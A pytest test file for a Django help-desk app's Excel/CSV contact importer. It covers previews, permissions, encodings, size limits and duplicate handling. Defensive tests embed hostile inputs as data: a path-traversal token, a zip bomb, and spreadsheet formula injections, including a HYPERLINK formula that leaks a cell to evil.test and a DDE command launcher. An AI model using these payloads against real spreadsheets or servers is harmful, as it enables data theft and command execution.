"""Importing companies, sites and contacts from Excel or CSV in *Configuración*."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Sequence

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from atiende.accounts import importing
from atiende.accounts.models import Contact, Location, Organization, User
from atiende.outbox.models import OutboundEmail
from tests.conftest import World

pytestmark = pytest.mark.django_db
HEADERS = importing.HEADERS


def xlsx(*rows: Sequence[object], headers: Sequence[str] = HEADERS) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(*rows: list[str], delimiter: str = ",", encoding: str = "utf-8-sig") -> bytes:
    lines = [delimiter.join(HEADERS), *(delimiter.join(row) for row in rows)]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def row(company="Umbrella S.A.", tax="900.555.111-2", domains="umbrella.test", site="Sede Centro",
        address="Cra 7 # 32-10", name="Pedro Páez", email="pedro@umbrella.test", phone="+57 601 555 0199",
        extension="12", area="Sistemas") -> list[str]:  # fmt: skip
    return [company, tax, domains, site, address, name, email, phone, extension, area]


def upload(client, content: bytes, name: str = "contactos.xlsx"):
    return client.post(reverse("desk:setup-import"), {"file": SimpleUploadedFile(name, content)})


def confirm(client, response, *, invite: bool = False):
    data = {"token": response.context["token"]}
    if invite:
        data["send_invitations"] = "on"
    return client.post(reverse("desk:setup-import-confirm"), data)


@pytest.fixture
def admin_client(client, world: World):
    client.force_login(world.admin.user)
    return client


def test_the_templates_download_with_spanish_headers(admin_client):
    book = admin_client.get(reverse("desk:setup-import-template", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert [cell.value for cell in next(sheet.iter_rows())] == HEADERS
    text = admin_client.get(reverse("desk:setup-import-template", args=["csv"])).content.decode("utf-8")
    assert text.startswith("\ufeffEmpresa,NIT,Dominios de correo")
    assert admin_client.get(reverse("desk:setup-import-template", args=["pdf"])).status_code == 404


def test_a_valid_file_is_previewed_then_imported_without_invitations(admin_client, world):
    preview = upload(admin_client, xlsx(row(), row(name="Rosa Ruiz", email="rosa@umbrella.test")))
    assert preview.status_code == 200
    assert preview.context["summary"]["new_contacts"] == 2
    assert not Organization.objects.filter(name="Umbrella S.A.").exists()  # nothing yet

    assert confirm(admin_client, preview).status_code == 302

    umbrella = Organization.objects.get(name="Umbrella S.A.")
    assert (umbrella.tax_id, umbrella.email_domains) == ("900.555.111-2", "umbrella.test")
    assert list(umbrella.locations.values_list("name", flat=True)) == ["Sede Centro"]
    pedro = Contact.objects.get(user__email="pedro@umbrella.test")
    assert (pedro.user.full_name, pedro.phone, pedro.extension, pedro.area) == (
        "Pedro Páez",
        "+57 601 555 0199",
        "12",
        "Sistemas",
    )
    assert pedro.memberships.get().organization == umbrella
    assert not OutboundEmail.objects.filter(kind="contact_invitation").exists()


def test_invitations_go_only_when_ticked(admin_client):
    preview = upload(admin_client, xlsx(row()))
    confirm(admin_client, preview, invite=True)
    assert list(OutboundEmail.objects.filter(kind="contact_invitation").values_list("to", flat=True)) == [
        ["pedro@umbrella.test"]
    ]


def test_a_file_can_be_imported_once(admin_client):
    preview = upload(admin_client, xlsx(row()))
    confirm(admin_client, preview)
    again = confirm(admin_client, preview)
    assert again.status_code == 302
    assert Contact.objects.filter(user__email="pedro@umbrella.test").count() == 1


def test_existing_companies_and_contacts_are_updated_not_duplicated(admin_client, world):
    world.acme.tax_id = "800.111.222-3"
    world.acme.save()
    rows = [
        row(company="Acme S.A.S.", tax="8001112223", domains="acme.com.co", site="Sede Norte",
            name="Luis Acme Ramírez", email="LUIS@acme.test", phone="555"),
    ]  # fmt: skip
    preview = upload(admin_client, xlsx(*rows))
    assert preview.status_code == 200
    html = preview.content.decode()
    assert "Actualiza la empresa existente" in html and "actualiza el contacto existente" in html
    confirm(admin_client, preview)
    world.acme.refresh_from_db()
    assert Organization.objects.count() == 2
    assert world.acme.email_domains == "acme.test, acme.com.co"
    assert Location.objects.filter(organization=world.acme).count() == 1
    world.luis.refresh_from_db()
    world.luis.user.refresh_from_db()
    assert (world.luis.user.full_name, world.luis.phone) == ("Luis Acme Ramírez", "555")
    assert User.objects.filter(email__iexact="luis@acme.test").count() == 1


def test_errors_are_listed_by_line_and_column_and_nothing_is_imported(admin_client, world):
    rows = [
        row(),
        row(email="no-es-correo", name="Sin Correo"),
        row(company="", email="x@umbrella.test"),
        row(email="pedro@umbrella.test", name="Repetido"),
        row(company="Otra", tax="", domains="no dominio", email="carla@globex.test"),
        row(company="Otra", tax="", email="agente@atiende.test", name="Ingeniero"),
    ]
    response = upload(admin_client, xlsx(*rows))
    assert response.status_code == 400
    errors = {(error.line, error.column) for error in response.context["plan"].errors}
    assert {
        (3, "Correo"),
        (4, "Empresa"),
        (5, "Correo"),
        (6, "Dominios de correo"),
        (6, "Correo"),
        (7, "Correo"),
    } <= errors
    assert (2, "Correo") not in errors
    assert "token" not in response.context
    assert not Organization.objects.filter(name="Umbrella S.A.").exists()
    assert "otra empresa (Globex Ltda.)" in response.content.decode()


def test_a_contact_of_another_company_is_never_moved_or_changed(admin_client, world):
    response = upload(
        admin_client, xlsx(row(company="Acme S.A.S.", tax="", email="carla@globex.test", name="Carla X"))
    )
    assert response.status_code == 400
    world.carla.user.refresh_from_db()
    assert world.carla.user.full_name == "Carla Globex"
    assert list(world.carla.memberships.values_list("organization", flat=True)) == [world.globex.pk]


@pytest.mark.parametrize("who", ["agente", "luis", "carla"])
def test_only_supervisors_and_admins_import(client, world, who):
    client.force_login(getattr(world, who).user)
    assert client.get(reverse("desk:setup-import")).status_code == 404
    assert upload(client, xlsx(row())).status_code == 404
    assert client.post(reverse("desk:setup-import-confirm"), {"token": "a" * 43 + ".xlsx"}).status_code == 404
    assert client.get(reverse("desk:setup-import-template", args=["xlsx"])).status_code == 404
    assert not Organization.objects.filter(name="Umbrella S.A.").exists()


def test_another_persons_upload_cannot_be_imported(client, world):
    client.force_login(world.admin.user)
    preview = upload(client, xlsx(row()))
    client.force_login(world.supervisor.user)
    response = confirm(client, preview)
    assert response.status_code == 302
    assert not Organization.objects.filter(name="Umbrella S.A.").exists()


@pytest.mark.parametrize("token", ["../../etc/passwd", "a" * 43 + ".exe", "", "x" * 500])
def test_a_forged_token_is_a_404(admin_client, token):
    assert admin_client.post(reverse("desk:setup-import-confirm"), {"token": token}).status_code == 404


def test_an_oversized_file_is_refused_with_the_limit(admin_client, monkeypatch):
    monkeypatch.setattr(importing, "MAX_BYTES", 1000)
    response = upload(
        admin_client, csv_bytes(*[row(email=f"p{i}@umbrella.test") for i in range(20)]), "big.csv"
    )
    assert response.status_code == 400
    assert "más de 0 MB" in response.content.decode() or "MB" in response.context["form"].errors["file"][0]


def test_a_file_that_is_not_really_xlsx_is_refused(admin_client):
    for content in (b"MZ\x90\x00 not a workbook", _zip_without_workbook()):
        response = upload(admin_client, content, "contactos.xlsx")
        assert response.status_code == 400
        assert "no es un libro de Excel" in response.context["form"].errors["file"][0]


def _zip_without_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hola.txt", "hola")
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(admin_client):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (importing.MAX_UNPACKED_BYTES + 1))
    response = upload(admin_client, buffer.getvalue(), "bomba.xlsx")
    assert response.status_code == 400
    assert "demasiados datos" in response.context["form"].errors["file"][0]


def test_an_unknown_extension_or_missing_headers_are_refused(admin_client):
    assert upload(admin_client, b"hola", "contactos.exe").status_code == 400
    response = upload(admin_client, b"nombre,correo\r\nA,a@b.co\r\n", "contactos.csv")
    assert "Empresa, NIT" in response.context["form"].errors["file"][0]


def test_formulas_in_cells_are_kept_as_text_never_run(admin_client):
    formula = '=HYPERLINK("http://evil.test/?"&A1,"clic")'
    preview = upload(admin_client, xlsx(row(name=formula, area="=1+1", company="=cmd|' /C calc'!A0")))
    assert preview.status_code == 200
    assert "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1,&quot;clic&quot;)" in preview.content.decode()
    confirm(admin_client, preview)
    pedro = Contact.objects.get(user__email="pedro@umbrella.test")
    assert (pedro.user.full_name, pedro.area) == (formula, "=1+1")
    assert Organization.objects.filter(name="=cmd|' /C calc'!A0").exists()


def test_a_10000_row_file_is_refused_quickly_and_nothing_is_imported(admin_client):
    rows = [row(email=f"p{i}@umbrella.test") for i in range(10_000)]
    started = time.monotonic()
    response = upload(admin_client, csv_bytes(*rows), "grande.csv")
    assert time.monotonic() - started < 10
    assert response.status_code == 400
    assert "más de 5.000 filas" in response.context["form"].errors["file"][0]
    assert not Contact.objects.filter(user__email__endswith="@umbrella.test").exists()


def test_csv_in_utf8_with_bom(admin_client):
    preview = upload(admin_client, csv_bytes(row(name="Íñigo Muñoz")), "contactos.csv")
    confirm(admin_client, preview)
    assert User.objects.get(email="pedro@umbrella.test").full_name == "Íñigo Muñoz"


def test_csv_from_excel_in_spanish_latin1_with_semicolons(admin_client):
    content = csv_bytes(
        row(name="Íñigo Muñoz", area="Contabilidad, nómina"), delimiter=";", encoding="cp1252"
    )
    preview = upload(admin_client, content, "contactos.csv")
    assert preview.status_code == 200, preview.context["plan"].errors
    confirm(admin_client, preview)
    pedro = Contact.objects.get(user__email="pedro@umbrella.test")
    assert (pedro.user.full_name, pedro.area) == ("Íñigo Muñoz", "Contabilidad, nómina")


def test_numbers_typed_as_numbers_keep_their_digits(admin_client):
    preview = upload(admin_client, xlsx([*row()[:1], 900555111, *row()[2:7], 6015550199, 12, "TI"]))
    confirm(admin_client, preview)
    assert Organization.objects.get(name="Umbrella S.A.").tax_id == "900555111"
    assert Contact.objects.get(user__email="pedro@umbrella.test").phone == "6015550199"


def test_300_contacts_import_in_a_few_seconds(admin_client):
    rows = [row(company=f"Cliente {i % 30}", tax=f"900{i % 30:06d}", domains=f"c{i % 30}.test",
                email=f"persona{i}@c{i % 30}.test", name=f"Persona {i}") for i in range(300)]  # fmt: skip
    started = time.monotonic()
    preview = upload(admin_client, xlsx(*rows))
    assert preview.status_code == 200
    confirm(admin_client, preview, invite=True)
    elapsed = time.monotonic() - started
    assert Contact.objects.filter(user__email__startswith="persona").count() == 300
    assert OutboundEmail.objects.filter(kind="contact_invitation").count() == 300
    assert elapsed < 15, elapsed
